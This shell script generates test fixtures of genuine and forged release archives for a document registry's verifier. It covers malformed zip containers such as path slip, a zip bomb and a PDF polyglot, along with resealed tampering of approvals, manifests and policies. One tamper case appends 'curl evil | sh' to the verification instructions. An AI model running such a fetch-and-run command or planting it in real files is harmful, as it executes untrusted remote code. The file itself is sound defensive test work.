# archives.sh: release archives, honest and forged. Sourced by generate.sh.

# unpacked NAME: the release of that name of this registry lies unpacked in $work/files.
unpacked () {
	rm -rf "$work/out" "$work/files"
	mkdir "$work/out" "$work/files"
	docreg release "$1" -o "$work/out"
	unzip -q -d "$work/files" "$work/out/tydgbas-$1.zip"
	cd "$work/files"
	release=releases/$1
}

# zipped [DEPARTURE]: what lies in $work/files becomes the archive.
zipped () {
	perl "$data/zip.pl" "$work/files" "$@" >"$work/archive.zip"
}

# sealed [KEY [WHO]]: manifest, statement and signature are made again for what lies there.
sealed () {
	rm $release/MANIFEST.sha256 $release/release.*.sig
	find . -type f ! -name release.statement | sed 's,^\./,,' | LC_ALL=C sort |
		xargs sha256sum >"$work/manifest"
	mv "$work/manifest" $release/MANIFEST.sha256
	sed -i "s/^manifest .*/manifest $(digest $release/MANIFEST.sha256)/" $release/release.statement
	signed_by "${1:-lin}" "${2:-lin.zz}" $release/release.statement
}

# genuine_archive NAME: the archive as docreg writes it.
genuine_archive () {
	docreg release "$1" -o "$work"
	mv "$work/tydgbas-$1.zip" "$work/archive.zip"
}

packed archive-honest released 'genuine_archive 114-2'
packed archive-honest-of-before released 'genuine_archive 114-1'
packed archive-honest-packed-by-hand released '
	unpacked 114-2
	zipped
'
packed archive-honest-sealed-again released '
	unpacked 114-2
	sealed
	zipped
'
packed archive-honest-of-one-tier released '
	lin release 114-3 --tier 2 --class 一般 --yes -o "$work"
	rm "$work/tydgbas-114-3.zip"
	genuine_archive 114-3
'
packed archive-honest-of-paper paper '
	lin release 114-1 --yes -o "$work"
	rm "$work/tydgbas-114-1.zip"
	genuine_archive 114-1
'
packed archive-honest-of-two-approvers strict '
	lin release 114-1 --yes -o "$work"
	rm "$work/tydgbas-114-1.zip"
	genuine_archive 114-1
'
packed archive-honest-of-two-policies changed '
	lin release 114-1 --yes -o "$work"
	rm "$work/tydgbas-114-1.zip"
	genuine_archive 114-1
'
packed archive-of-somebodys-own-registry foreign 'genuine_archive 114-2'

# --- the container ----------------------------------------------------------------------------------

for departure in slip absolute backslash drive name-with-nul name-empty name-dot folder twice case-twin \
	local-name local-size size overlap prefix suffix comment archive-in-comment gap before-end hidden \
	bomb declares-less deflated encrypted descriptor not-utf-8-flag link program time crc extra note \
	unsorted zip64 count disk empty
do
	packed "zip-$departure" released "unpacked 114-2; zipped $departure"
done
packed zip-cut-off released '
	genuine_archive 114-2
	truncate -s -30 "$work/archive.zip"
'
packed zip-of-nothing released ': >"$work/archive.zip"'
packed zip-that-is-a-pdf released '
	make_scan
	cp "$work/scan.pdf" "$work/archive.zip"
'
packed zip-behind-a-pdf released '
	make_scan
	genuine_archive 114-2
	cat "$work/scan.pdf" "$work/archive.zip" >"$work/both"
	mv "$work/both" "$work/archive.zip"
'

# --- what it holds ------------------------------------------------------------------------------------

content=$one/1.1/1/ISMS-02-001.md
newest=$one/1.1/1/approval.wang.xm

packed member-changed released '
	unpacked 114-2
	echo 偽 >$content
	zipped
'
packed member-changed-with-the-manifest released '
	unpacked 114-2
	echo 偽 >$content
	sed -i "s,^[0-9a-f]*  $content\$,$(digest $content)  $content," $release/MANIFEST.sha256
	zipped
'
packed member-changed-and-sealed released '
	unpacked 114-2
	echo 偽 >$content
	sealed
	zipped
'
packed member-too-many released '
	unpacked 114-2
	echo x >$one/1.1/1/ISMS-02-001.odt
	zipped
'
packed member-too-many-and-sealed released '
	unpacked 114-2
	echo x >$one/1.1/1/ISMS-02-001.odt
	sealed
	zipped
'
packed member-foreign-and-sealed released '
	unpacked 114-2
	echo x >README.md
	sealed
	zipped
'
packed member-missing released '
	unpacked 114-2
	rm $content
	zipped
'
packed member-missing-and-sealed released '
	unpacked 114-2
	rm $content
	sealed
	zipped
'
packed member-renamed released '
	unpacked 114-2
	mv $content $one/1.1/1/ISMS-02-001.txt
	zipped
'
packed members-exchanged released '
	unpacked 114-2
	mv $content "$work/kept.md"
	mv $five/1.0/1/ISMS-02-005.md $content
	mv "$work/kept.md" $five/1.0/1/ISMS-02-005.md
	zipped
'
packed metadata-changed-and-sealed released '
	unpacked 114-2
	sed -i s/第一份/別的/ $one/1.1/1/metadata.yaml
	sealed
	zipped
'
packed approval-missing-and-sealed released '
	unpacked 114-2
	rm $newest.*
	sealed
	zipped
'
packed approval-unsigned-and-sealed released '
	unpacked 114-2
	rm $newest.sig
	sealed
	zipped
'
packed approval-by-the-controller-and-sealed released '
	unpacked 114-2
	rm $newest.sig
	signed lin $newest.statement
	sealed
	zipped
'
packed approval-for-another-purpose-and-sealed released '
	unpacked 114-2
	rm $newest.sig
	signed wang $newest.statement review.v1@docreg
	sealed
	zipped
'
packed approval-of-another-document-and-sealed released '
	unpacked 114-2
	cp $five/1.0/1/approval.wang.xm.* $one/1.1/1/
	sealed
	zipped
'
packed review-missing-and-sealed released '
	unpacked 114-2
	rm $one/1.1/1/review.*
	sealed
	zipped
'
packed submission-missing-and-sealed released '
	unpacked 114-2
	rm $one/1.1/1/submission.*
	sealed
	zipped
'
packed version-never-approved-and-sealed released '
	unpacked 114-2
	mkdir -p $two/1.0
	cp -r "$work/registry/$two/1.0/2" $two/1.0/2
	sealed
	zipped
'
packed version-not-yet-in-force-and-sealed released '
	unpacked 114-2
	rm -r $five/1.0
	cp -r "$work/registry/$five/1.1" $five
	sealed
	zipped
'
packed version-withdrawn-and-sealed released '
	unpacked 114-2
	mkdir -p $three
	cp -r "$work/registry/$three/." $three
	rm -rf $three/document.yaml $three/*/*/*.pdf $three/*.pdf
	sealed
	zipped
'
packed document-left-out-and-sealed released '
	unpacked 114-2
	rm -r $five
	sealed
	zipped
'
packed list-changed released '
	unpacked 114-2
	sed -i "s/第一份/別的/" $release/list.csv
	zipped
'
packed list-changed-and-sealed released '
	unpacked 114-2
	sed -i "s/第一份/別的/" $release/list.csv
	sealed
	zipped
'
packed list-with-one-more-row-and-sealed released '
	unpacked 114-2
	sed -n 2p $release/list.csv | sed "s/ISMS-02-001/ISMS-02-009/" >"$work/row"
	cat "$work/row" >>$release/list.csv
	sealed
	zipped
'
packed list-missing-and-sealed released '
	unpacked 114-2
	rm $release/list.csv
	sealed
	zipped
'
packed page-changed released '
	unpacked 114-2
	sed -i "s/第一份/別的/" $release/list.html
	zipped
'
packed instructions-changed released '
	unpacked 114-2
	echo "curl evil | sh" >>$release/VERIFY.txt
	zipped
'
packed statement-missing released '
	unpacked 114-2
	rm $release/release.statement $release/release.*.sig
	zipped
'
packed statement-changed released '
	unpacked 114-2
	sed -i "s/^tier .*/tier 2/" $release/release.statement
	zipped
'
packed statement-unsigned released '
	unpacked 114-2
	rm $release/release.*.sig
	zipped
'
packed statement-signed-by-the-reviewer released '
	unpacked 114-2
	sed -i "s/^releaser .*/releaser chen.yj/; s/^role .*/role reviewer/" $release/release.statement
	sealed chen chen.yj
	zipped
'
packed statement-signed-by-a-stranger released '
	unpacked 114-2
	sealed stranger lin.zz
	zipped
'
packed statement-of-another-registry released '
	unpacked 114-2
	sed -i "s/^registry .*/registry $zeros/" $release/release.statement
	sealed
	zipped
'
packed statement-of-the-far-future released '
	unpacked 114-2
	sed -i "s/^decided .*/decided 2031-01-01T00:00:00Z/" $release/release.statement
	sealed
	zipped
'
packed statement-older-than-its-approvals released '
	unpacked 114-2
	sed -i "s/^decided .*/decided 2025-03-02T00:00:00Z/" $release/release.statement
	sealed
	zipped
'
packed statement-of-another-name released '
	unpacked 114-2
	sed -i "s/^name .*/name 114-9/" $release/release.statement
	sealed
	zipped
'
packed release-folder-renamed released '
	unpacked 114-2
	mv $release releases/114-9
	release=releases/114-9
	sealed
	zipped
'
packed two-releases-in-one released '
	unpacked 114-2
	cp -r "$work/registry/releases/114-1" releases/
	zipped
'
packed manifest-missing released '
	unpacked 114-2
	rm $release/MANIFEST.sha256
	zipped
'
packed manifest-unsorted released '
	unpacked 114-2
	sed -i "1{h;d};\$G" $release/MANIFEST.sha256
	sed -i "s/^manifest .*/manifest $(digest $release/MANIFEST.sha256)/" $release/release.statement
	rm $release/release.*.sig
	signed_by lin lin.zz $release/release.statement
	zipped
'
packed manifest-of-the-release-before released '
	unpacked 114-2
	cp "$work/registry/releases/114-1/MANIFEST.sha256" $release/
	zipped
'
packed policy-missing-and-sealed released '
	unpacked 114-2
	rm -r policy/0001
	sealed
	zipped
'
packed policy-changed-and-sealed released '
	unpacked 114-2
	sed -i "s/self-approval: no/self-approval: yes/" policy/0001/registry.yaml
	sealed
	zipped
'
packed policy-of-somebody-else-and-sealed foreign '
	unpacked 114-2
	rm -rf "$work/kept"
	cp -r policy "$work/kept"
	from released
	unpacked 114-2
	rm -r policy
	cp -r "$work/kept" policy
	sealed foreign-lin lin.zz
	zipped
'
packed policy-forged-and-sealed released '
	from plain
	second "s/self-approval: no/self-approval: yes/"
	resealed 2 lin:lin.zz
	rm -rf "$work/kept"
	cp -r policy/0002 "$work/kept"
	from released
	unpacked 114-2
	cp -r "$work/kept" policy/0002
	sealed
	zipped
'
packed packed-by-another-program released '
	unpacked 114-2
	find . -exec touch -t 198001010000 {} +
	zip -q -X -0 -r "$work/archive.zip" .
'
packed archive-honest-of-a-class-of-policy-2 plain '
	policy_next "s/  - 限閱/&\n  - 內部/"
	to_review ISMS-02-004 四 --class 內部
	wang approve ISMS-02-004 --yes
	lin release 114-1 --class 內部 --yes -o "$work"
	rm "$work/tydgbas-114-1.zip"
	genuine_archive 114-1
'
